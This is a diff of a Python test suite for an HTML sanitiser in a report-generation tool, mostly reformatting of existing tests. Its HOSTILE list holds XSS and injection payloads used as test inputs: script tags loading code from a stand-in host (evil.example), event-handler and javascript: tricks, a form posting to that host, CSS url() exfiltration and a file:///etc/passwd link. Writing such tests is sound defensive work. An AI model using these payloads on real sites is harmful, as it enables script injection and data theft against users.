@@ -15,11 +15,11 @@ import tinyhtml5
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from reportgen.render.body import rendered_html
 from reportgen.build import draw_figures
-from reportgen.render.editions import select
 from reportgen.errors import Diagnostics
 from reportgen.load.reader import load_report
+from reportgen.render.body import rendered_html
+from reportgen.render.editions import select
 from reportgen.render.sanitize import clean_fragment
 from tests.conftest import PNG
 
@@ -173,16 +173,27 @@ def test_ids_classes_links_and_charts_survive(bodies):
     assert {f"{SVG}svg", f"{SVG}path", f"{SVG}text", f"{SVG}use", f"{SVG}clipPath"} <= set(svg_tags)
     # Five charts in the draft's HTML and PDF bodies; the public edition leaves the unfinished section out.
     assert cleaned.count("<svg") == body.count("<svg") == 10
-    for piece in ('class="badge badge-done"', 'class="table-wrap"', 'class="footnote-ref"', 'class="footnotes"',
-                  'href="mailto:board@example.org"', 'rel="noopener noreferrer"', 'src="assets/photo.png"',
-                  'src="data:image/png;base64,iVBORw0KGgo="', 'class="language-python"', 'class="pending"',
-                  'style="text-align:right"', 'xlink:href="#', 'clip-path="url(#'):
+    for piece in (
+        'class="badge badge-done"',
+        'class="table-wrap"',
+        'class="footnote-ref"',
+        'class="footnotes"',
+        'href="mailto:board@example.org"',
+        'rel="noopener noreferrer"',
+        'src="assets/photo.png"',
+        'src="data:image/png;base64,iVBORw0KGgo="',
+        'class="language-python"',
+        'class="pending"',
+        'style="text-align:right"',
+        'xlink:href="#',
+        'clip-path="url(#',
+    ):
         assert piece in cleaned, piece
 
 
 HOSTILE = [
     # (injected HTML, what must not survive)
-    ('<p>a<script>alert(1)</script>b</p>', ["<script", "alert"]),
+    ("<p>a<script>alert(1)</script>b</p>", ["<script", "alert"]),
     ('<p>x<SCRIPT SRC="https://evil.example/x.js"></SCRIPT></p>', ["<script", "evil.example"]),
     ('<img src="x.png" onerror="alert(1)">', ["onerror", "alert"]),
     ('<h2 id="x" onclick="alert(1)" onmouseover=alert(2)>t</h2>', ["onclick", "onmouseover", "alert"]),
@@ -205,15 +216,17 @@ HOSTILE = [
     ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ["<meta", "evil.example"]),
     ('<link rel="stylesheet" href="https://evil.example/x.css">', ["<link", "evil.example"]),
     ('<link rel="attachment" href="file:///etc/passwd">', ["<link", "passwd"]),
-    ('<style>body{background:url(https://evil.example/x)}</style>', ["<style", "evil.example"]),
-    ('<form action="https://evil.example/"><input name="p"><button formaction="javascript:1">x</button></form>',
-     ["<form", "<input", "<button", "evil.example", "javascript"]),
+    ("<style>body{background:url(https://evil.example/x)}</style>", ["<style", "evil.example"]),
+    (
+        '<form action="https://evil.example/"><input name="p"><button formaction="javascript:1">x</button></form>',
+        ["<form", "<input", "<button", "evil.example", "javascript"],
+    ),
     ('<td style="text-align:right;background:url(https://evil.example/x)">1</td>', ["evil.example", "background"]),
     ('<span style="color:red;behavior:url(x.htc);-moz-binding:url(x.xml#a)">t</span>', ["url(", "behavior", "binding"]),
     ('<span style="fill:expression(alert(1))">t</span>', ["expression", "alert"]),
     ('<span style="fill:u\\72l(https://evil.example/x)">t</span>', ["evil.example"]),
     ('<svg onload="alert(1)"><path d="M0 0"/></svg>', ["onload", "alert"]),
-    ('<svg><script>alert(1)</script></svg>', ["<script", "alert"]),
+    ("<svg><script>alert(1)</script></svg>", ["<script", "alert"]),
     ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ["javascript", "alert"]),
     ('<svg><use xlink:href="https://evil.example/s.svg#a"/></svg>', ["evil.example"]),
     ('<svg><use href="data:image/svg+xml,<svg id=a onload=alert(1)>#a"/></svg>', ["data:", "alert"]),
@@ -221,16 +234,20 @@ HOSTILE = [
     ('<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', ["<set", "alert"]),
     ('<svg><foreignObject><iframe src="x"></iframe></foreignObject></svg>', ["foreignObject", "<iframe"]),
     ('<svg><image href="https://evil.example/x.png"/></svg>', ["<image", "evil.example"]),
-    ('<svg><path style="fill:url(https://evil.example/p#x)" clip-path="url(https://evil.example/c#y)"/></svg>',
-     ["evil.example"]),
+    (
+        '<svg><path style="fill:url(https://evil.example/p#x)" clip-path="url(https://evil.example/c#y)"/></svg>',
+        ["evil.example"],
+    ),
     ('<svg><rect fill="url(https://evil.example/f#g)" width="1" height="1"/></svg>', ["evil.example"]),
-    ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-     ["onerror", "alert"]),
+    (
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        ["onerror", "alert"],
+    ),
     ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ["onerror"]),
     ('<div data-pagefind-body data-pagefind-meta="title:x">t</div>', ["pagefind"]),
     ('<h1 id="x" data-title="t" data-pagefind-ignore>t</h1>', ["pagefind"]),
-    ('<p><!-- <script>alert(1)</script> --></p>', ["<script", "alert"]),
-    ('<template><script>alert(1)</script></template>', ["<script", "alert"]),
+    ("<p><!-- <script>alert(1)</script> --></p>", ["<script", "alert"]),
+    ("<template><script>alert(1)</script></template>", ["<script", "alert"]),
 ]
 
 
@@ -243,11 +260,13 @@ def test_injected_markup_is_removed(given_html, gone):
 
 
 def test_safe_parts_of_an_injected_fragment_stay():
-    cleaned = clean_fragment('<p class="x" onclick="a()">正文<script>alert(1)</script>'
-                             '<a href="https://example.org/" onmouseover="b()" title="t">链接</a></p>'
-                             '<table><tr><td style="text-align:center;position:fixed">1</td></tr></table>'
-                             '<svg><path style="fill: url(#p1); stroke: url(https://evil.example/)" '
-                             'clip-path="url(#c)"/><use xlink:href="#m"/></svg>')
+    cleaned = clean_fragment(
+        '<p class="x" onclick="a()">正文<script>alert(1)</script>'
+        '<a href="https://example.org/" onmouseover="b()" title="t">链接</a></p>'
+        '<table><tr><td style="text-align:center;position:fixed">1</td></tr></table>'
+        '<svg><path style="fill: url(#p1); stroke: url(https://evil.example/)" '
+        'clip-path="url(#c)"/><use xlink:href="#m"/></svg>'
+    )
     assert '<p class="x">正文<a href="https://example.org/" title="t">链接</a></p>' in cleaned
     assert 'style="text-align:center"' in cleaned
     assert 'style="fill: url(#p1)"' in cleaned and 'clip-path="url(#c)"' in cleaned
@@ -256,12 +275,53 @@ def test_safe_parts_of_an_injected_fragment_stay():
 
 # --- properties ------------------------------------------------------------------------
 
-MARKDOWN_BITS = st.sampled_from([
-    "# ", "## ✅ ", "### 👁️", "\n", "\n\n", "> ", "- ", "1. ", "| a | b |\n| --- | ---: |\n| 1 | 2 |\n",
-    "[", "]", "(", ")", "![", "](", "https://example.org/", "mailto:a@b.c", "javascript:", "#", "02-b.md",
-    "../assets/p.png", "`", "```\n", "```chart\n", "*", "_", "~~", "[^1]", "[^1]: 注\n", "<", ">", "&", "\"",
-    "'", "<script>", "onerror=", "&#106;", "正文", "标题", "  \n", "\\", "---\n", "<https://x.org>",
-])
+MARKDOWN_BITS = st.sampled_from(
+    [
+        "# ",
+        "## ✅ ",
+        "### 👁️",
+        "\n",
+        "\n\n",
+        "> ",
+        "- ",
+        "1. ",
+        "| a | b |\n| --- | ---: |\n| 1 | 2 |\n",
+        "[",
+        "]",
+        "(",
+        ")",
+        "![",
+        "](",
+        "https://example.org/",
+        "mailto:a@b.c",
+        "javascript:",
+        "#",
+        "02-b.md",
+        "../assets/p.png",
+        "`",
+        "```\n",
+        "```chart\n",
+        "*",
+        "_",
+        "~~",
+        "[^1]",
+        "[^1]: 注\n",
+        "<",
+        ">",
+        "&",
+        '"',
+        "'",
+        "<script>",
+        "onerror=",
+        "&#106;",
+        "正文",
+        "标题",
+        "  \n",
+        "\\",
+        "---\n",
+        "<https://x.org>",
+    ]
+)
 MARKDOWN = st.lists(st.one_of(MARKDOWN_BITS, st.text(max_size=8)), max_size=40).map("".join)
 
 
@@ -275,14 +335,16 @@ def render_markdown(source: Path, text: str) -> list[str]:
 
 @settings(max_examples=150, deadline=None)
 @given(text=MARKDOWN)
-@example(text="[a](02-b.md#乙) [^1]\n\n[^1]: 注 [b](https://x.org \"t\")\n")
+@example(text='[a](02-b.md#乙) [^1]\n\n[^1]: 注 [b](https://x.org "t")\n')
 def test_any_markdown_passes_the_sanitiser_unchanged(scratch, text):
     for body in render_markdown(scratch, text):
         assert tree(clean_fragment(body)) == tree(body)
 
 
 @settings(max_examples=200, deadline=None)
-@given(html=st.lists(st.one_of(st.sampled_from([h for h, _ in HOSTILE]), st.text(max_size=10)), max_size=6).map("".join))
+@given(
+    html=st.lists(st.one_of(st.sampled_from([h for h, _ in HOSTILE]), st.text(max_size=10)), max_size=6).map("".join)
+)
 def test_cleaning_twice_changes_nothing_more(html):
     once = clean_fragment(html)
     assert clean_fragment(once) == once
